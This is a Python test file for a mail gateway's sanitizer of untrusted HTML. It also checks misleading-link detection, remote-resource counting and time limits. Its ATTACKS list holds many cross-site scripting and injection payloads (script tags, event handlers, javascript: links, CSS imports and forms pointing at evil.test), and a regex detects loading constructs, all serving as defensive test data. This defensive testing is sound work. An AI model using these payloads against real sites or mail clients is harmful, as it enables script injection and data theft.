"""HTML of strangers: what comes out of it is harmless, whatever it is; and it takes time by its length alone."""

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mailgw.mail.shown_html import (
    _SHARED,
    _TAGS,
    MAX_CHARACTERS,
    MAX_DEPTH,
    MAX_LINKS,
    MAX_NAMED,
    MAX_VALUE,
    ShownHtml,
    is_misleading,
    links_in,
    shown_html,
    text_of,
)
from tests.slowed import SLOWED
from tests.tables import each


def shown(html: str) -> ShownHtml:
    return shown_html(html, lambda content_id: "parts/3" if content_id == "logo@x" else None)


def body(html: str) -> str:
    document = shown(html).document
    return document.partition("<body>")[2].removesuffix("</body></html>")


class Reader(HTMLParser):
    """What a browser may find in it."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))
        if tag not in ("br", "wbr", "hr", "img", "col", "meta"):
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag


OURS = {"html", "head", "meta", "title", "body", "style"}
LOADS = re.compile(r"(?i)url\s*\(|@import|expression\s*\(|image-set\s*\(|behavior\s*:|javascript:")


def assert_harmless(document: str) -> None:
    reader = Reader()
    reader.feed(document)
    reader.close()
    assert reader.open == []
    for tag, attributes in reader.tags:
        assert tag in _TAGS or tag in OURS, tag
        for name, value in attributes if tag not in OURS else ():
            assert value is not None
            if name == "href":
                assert re.match(r"(?i)(https?://|mailto:|tel:)", value), value
            elif name == "src":
                assert value.startswith(("data:image/", "parts/")), value
            elif name == "style":
                assert not LOADS.search(value), value
            else:
                assert name in _SHARED | _TAGS[tag] | {"rel", "target"}, name
    for sheet in re.findall(r"(?s)<style>(.*?)</style>", document):
        assert "<" not in sheet
        assert not LOADS.search(sheet), sheet
    assert document.count("<style>") <= 1


ATTACKS = [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<script',
    '<script>',
    '<script/x>alert(1)</script >',
    '<img src=x onerror=alert(1)>',
    '<img/src=x/onerror=alert(1)>',
    '<img src="x"onerror="alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    "<a href=' java\tscript:alert(1)'>x</a>",
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href=vbscript:x>x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href=//evil.test>x</a>',
    '<a href=#x>x</a>',
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    '<iframe src=//evil.test></iframe>',
    "<iframe srcdoc='<x>'>",
    '<object data=x.swf></object>',
    '<embed src=x>',
    '<applet code=x>',
    '<base href=//evil.test/>',
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    '<link rel=stylesheet href=//evil.test/x.css>',
    '<link rel=dns-prefetch href=//evil.test>',
    '<form action=//evil.test><input name=x><button>y</button></form>',
    '<body onload=alert(1) background=//evil.test/x>',
    '<video poster=//evil.test/x><source src=//evil.test/y></video>',
    '<audio src=x autoplay>',
    "<img srcset='//evil.test/x 2x'>",
    '<input type=image src=x>',
    '<isindex>',
    '<template><b>x</template>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea><img title='</textarea><img src=x onerror=1>'>",
    "<title><img title='</title><script>alert(1)</script>'>",
    "<xmp><p title='</xmp><script>alert(1)</script>'>",
    '<style>@import url(//evil.test/x.css);</style>',
    '<style>@@import x;import "http://evil.test/x.css";</style>',
    '<style>@@charset "x";import "http://evil.test/x.css";</style>',
    '<style>@@@import;@import;import "http://evil.test/x.css";</style>',
    "<style>@\\69mport '//evil.test/x.css';</style>",
    '<style>p{background:url(//evil.test/x)}</style>',
    '<style>p{background:u\\72l(//evil.test/x)}</style>',
    '<style>p{background:url/**/(//evil.test/x)}</style>',
    '<style>p{x:expression(alert(1))}</style>',
    '<style></style><script>alert(1)</script>',
    '<style><!--</style><script>alert(1)</script>--></style>',
    '<style>p{x:\'</sty\'}</style><p style="background:url(\'//evil.test/x\')">',
    "<p style='behavior:url(x)'>",
    '<p style="-moz-binding:url(//evil.test/x)">',
    "<p style='width:expression(1)'>",
    '<p style=\'x:"><script>alert(1)</script>\'>',
    '<!--><script>alert(1)</script>-->',
    '<!-- --!><script>alert(1)</script>',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<?php <script>alert(1)</script> ?>',
    '<p "><script>alert(1)</script>">',
    '<p a=\'"><script>\'><script>alert(1)</script>',
    "<img alt='`><script>alert(1)</script>'>",
    '</p/><script>',
    '<b <script>alert(1)</script>',
    '<table><form><td><script>',
    '<plaintext><script>alert(1)</script>',
    '<frameset><frame src=//evil.test></frameset>',
    '<a target=_top href=https://x.test>x',
    "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    '<img src="cid:logo@x">',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '&#60;script&#62;',
    "<p title='&quot;&gt;&lt;script&gt;'>x</p>",
    '\x00<scr\x00ipt>',
    '<p\x0conclick=x>y',
    '<button formaction=javascript:alert(1)>',
    '<details open ontoggle=alert(1)>',
    '<marquee onstart=x>',
]


@each("html", ATTACKS)
def test_nothing_that_does_anything_comes_out(html: str) -> None:
    assert_harmless(shown(html).document)
    assert_harmless(shown(f"<div>a{html}b</div>{html}").document)
    assert "alert(1)</script" not in shown(html).document


PIECES = [*ATTACKS, "<", ">", '"', "'", "/", "=", " ", "<!--", "-->", "</", "<p", "style", "<style>"]


@given(st.lists(st.sampled_from(PIECES), max_size=8).map("".join))
def test_nor_out_of_any_mixture(html: str) -> None:
    assert_harmless(shown(html).document)


@given(st.text(alphabet="<>/=\"' !-abps&#;x\n\x00\ud800", max_size=60))
def test_nor_out_of_anything(html: str) -> None:
    assert_harmless(shown(html).document)
    shown(html).document.encode()


@each(("html", "comes_out"), [
    ("", ""), ("plain & <b>bold</b>", "plain &amp; <b>bold</b>"), ("1 < 2 > 1", "1 &lt; 2 &gt; 1"),
    ("<p>a<p>b", "<p>a</p><p>b</p>"), ("<li>a<li>b", "<li>a</li><li>b</li>"), ("<b><i>x</b>y</i>", "<b><i>x</i></b>y"),
    ("</b>x", "x"), ("<br>x<br/>", "<br>x<br>"), ("<td><p>x</table>y", "<td><p>xy</p></td>"),
    ("<table><td><p>x</table>y", "<table><td><p>x</p></td></table>y"),
    ("<p><table><tr><td>x</p>y</td></tr></table>", "<p><table><tr><td>xy</td></tr></table></p>"),
    ("<body bgcolor=red>x", '<div bgcolor="red">x</div>'), ("<p style=\"color:red\">x", '<p style="color:red">x</p>'),
    ("<img src=cid:logo@x alt=a>", '<img src="parts/3" alt="a">'), ("<img src=cid:other>", "<img>"),
    ("<img src='data:image/gif;base64,R0lG'>", '<img src="data:image/gif;base64,R0lG">'),
    ("<font color=#123 face=x>y", '<font color="#123" face="x">y</font>'), ("&copy;&#x20ac;", "©€"),
    ("<!-- x -->y<!-- z", "y"), ("<o:p>x</o:p>", "x"), ("<p class='a b' id=c>", '<p class="a b" id="c"></p>'),
])
def test_what_is_harmless_stays(html: str, comes_out: str) -> None:
    assert body(html) == comes_out


def test_style_sheets_are_kept_as_far_as_they_load_nothing() -> None:
    found = shown("<style>p{color:red}</style><style>@import 'x';b{font-weight:bold}</style><p>x")
    assert "<style>p{color:red}\n/*gone*/b{font-weight:bold}</style>" in found.document


def test_what_is_remote_is_counted_and_named() -> None:
    found = shown(
        "<img src=https://a.test/1.gif><img src='//b.test/2'><td background='http://c.test/3'>"
        "<p style='background:url(https://d.test/4)'><style>@import 'https://e.test/5';</style>"
        "<img srcset='https://f.test/6 2x'><img src=cid:logo@x><img src=https://a.test/1.gif>"
    )
    assert found.remote_count == 7
    assert found.remote == (
        "https://a.test/1.gif", "//b.test/2", "http://c.test/3", "https://d.test/4", "https://e.test/5",
        "https://f.test/6 2x",
    )
    many = shown("".join(f"<img src=http://x.test/{n}>" for n in range(MAX_NAMED + 1)))
    assert (many.remote_count, len(many.remote)) == (MAX_NAMED + 1, MAX_NAMED)


def test_what_would_be_imported_is_counted_however_it_is_spelt() -> None:
    found = shown('<style>@@import x;import "http://evil.test/x.css";</style>')
    assert (found.remote, found.remote_count) == (("http://evil.test/x.css",), 1)
    assert shown("<style>@namespace 'http://www.w3.org/1999/xhtml';p{color:red!important}</style>").remote == ()


@each(("number", "comes_out"), [
    ("65", "A"), ("0" * 5000 + "65", "A"), ("1" * 5000, "\ufffd"), ("0" * 5000, "\ufffd"),
    ("x" + "0" * 5000 + "41", "A"),
])
def test_a_character_by_its_number_of_however_many_digits(number: str, comes_out: str) -> None:
    assert body(f"&#{number};") == comes_out


@each(("html", "comes_out"), [
    ("<a href='\u00a0 https://x.test/\u2003'>y</a>", "https://x.test/"),
    ("<a href='https://x.test/a\u00a0b'>y</a>", "https://x.test/a\u00a0b"), ("<a href='https://x.test/a b'>y</a>", ""),
    ("<a href='https://'>y</a>", ""), ("<a href='https://\u00a0'>y</a>", ""), ("<a href='mailto:x'>y</a>", "mailto:x"),
])
def test_blanks_around_a_link(html: str, comes_out: str) -> None:
    assert [one.target for one in shown(html).links] == ([comes_out] if comes_out else [])
    assert ("href" in body(html)) is bool(comes_out)


def test_links_with_their_texts() -> None:
    found = shown("<a href='https://x.test/?a=1&amp;b=2'>one <b>two</b></a><a>none</a><a href=mailto:a@b.c></a>"
                  "<a href=javascript:x>y</a><a href=http://evil.test>https://bank.test/</a>")
    assert [(one.text, one.target, one.is_mismatch) for one in found.links] == [
        ("one two", "https://x.test/?a=1&b=2", False), ("", "mailto:a@b.c", False),
        ("https://bank.test/", "http://evil.test", True),
    ]
    assert len(shown("<a href=http://x.test/>y</a>" * (MAX_LINKS + 1)).links) == MAX_LINKS


@each(("text", "target", "is_so"), [
    ("https://bank.test/", "https://bank.test/login", False), ("bank.test", "https://www.bank.test/", False),
    ("www.bank.test", "https://bank.test/", False), ("bank.test", "https://secure.bank.test/", False),
    ("secure.bank.test", "https://bank.test/", True), ("bank.test", "https://evil.test/bank.test", True),
    ("bank.test", "https://bank.test.evil.test/", True), ("https://bank.test/", "https://bank.test@evil.test/", True),
    ("BANK.test", "https://bank.TEST/", False), ("click here", "https://evil.test/", False),
    ("report.pdf", "https://files.test/1", False), ("http://report.pdf/", "https://files.test/1", True),
    ("bank.test", "mailto:x@evil.test", False), ("see bank.test", "https://evil.test/", False),
    ("", "http://x.test", False),
    ("bank.test:8443/x", "https://bank.test/", False), ("1.5", "http://x.test", False),
])
def test_a_link_that_says_another_host(text: str, target: str, is_so: bool) -> None:
    assert is_misleading(text, target) is is_so


def test_links_in_plain_text() -> None:
    found = links_in("See https://a.test/x, (http://b.test/y) and <https://a.test/x>. ftp://no www.no.test")
    assert [one.target for one in found] == ["https://a.test/x", "http://b.test/y"]


def test_limits(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("mailgw.mail.shown_html.MAX_TAGS", MAX_TAGS)
    assert not shown("x" * MAX_CHARACTERS).is_cut
    assert shown("x" * (MAX_CHARACTERS + 1)).is_cut
    assert not shown("<br>" * MAX_TAGS).is_cut
    assert shown("<br>" * (MAX_TAGS + 1)).is_cut
    for depth, count in ((MAX_DEPTH, MAX_DEPTH), (MAX_DEPTH + 1, MAX_DEPTH)):
        assert body("<b>" * depth).count("<b>") == count
    assert "title" in body(f"<p title={'x' * MAX_VALUE}>")
    assert "title" not in body(f"<p title={'x' * (MAX_VALUE + 1)}>")


def test_words_for_a_search() -> None:
    html = "<p>Caf&eacute; <b>x</b></p><p>y &lt;z&gt;<style>p{}</style><script>no</script>"
    assert text_of(html, 100) == "Café x y <z>"
    assert text_of(html, 30) == "Café x y <z>"
    assert len(text_of("x" * 100, 30)) == 30


MAX_TAGS = 1000
BLANKS = "\u00a0" * 8100

SLOW = {
    "nested": "<div>", "attributes": "<a " + "x=y " * 20, "quotes": '<a x="', "angles": "<", "comments": "<!--",
    "styles": "<style>", "css": "<p style='url(url(url('>", "entities": "&#", "named": "&lt", "slashes": "<a//////////",
    "misnested": "<b><i></b></i>", "links": "<a href=http://x>y</a>", "tables": "<table><td>",
    "at": "<style>@ @ @ @import",
    "link": f'<a href="https://a{BLANKS} x">', "link_2": f'<a href="{BLANKS}x">', "cid": f'<img src="cid:{BLANKS}">',
    "data": f'<img src="data:image/png;base64,{BLANKS}!">', "remote": f'<img src="{BLANKS}x">', "blanks": f"<a{BLANKS}",
    "css_blanks": f"<p style='@{BLANKS}url{BLANKS}import{BLANKS}behavior{BLANKS}x'>", "named_blanks": "<a href='&nbsp;",
    "hosts": "<a href=http://x>" + "a." * 100 + "!</a>", "imports": "<style>" + "@@import;" * 800 + "</style>",
    "formatting": "<p><font size=1>", "ends": "</p>", "script": "<script></scrip>", "equals": "<a ====",
}


@each("word", sorted(SLOW))
def test_the_time_grows_with_the_length_alone(word: str) -> None:
    piece = SLOW[word]
    html = piece * (50_000 // len(piece))
    began = time.process_time()
    shown(html)
    assert time.process_time() - began < 2 * SLOWED, "50 KB take some 0.1 s at the most"


@each(("before", "tag"), [("<div>" * 199, "b"), ("<b><table>" + "<div>" * 197, "b"), ("<table>" + "<b>" * 198, "div")])
def test_an_end_without_a_beginning_costs_nothing(before: str, tag: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("mailgw.mail.shown_html.MAX_TAGS", 100_000)
    began = time.process_time()
    shown(before + f"</{tag}>" * 90_000)
    assert time.process_time() - began < 1.2 * SLOWED, "0.3 s; where all that is open is looked at, 2 to 4"
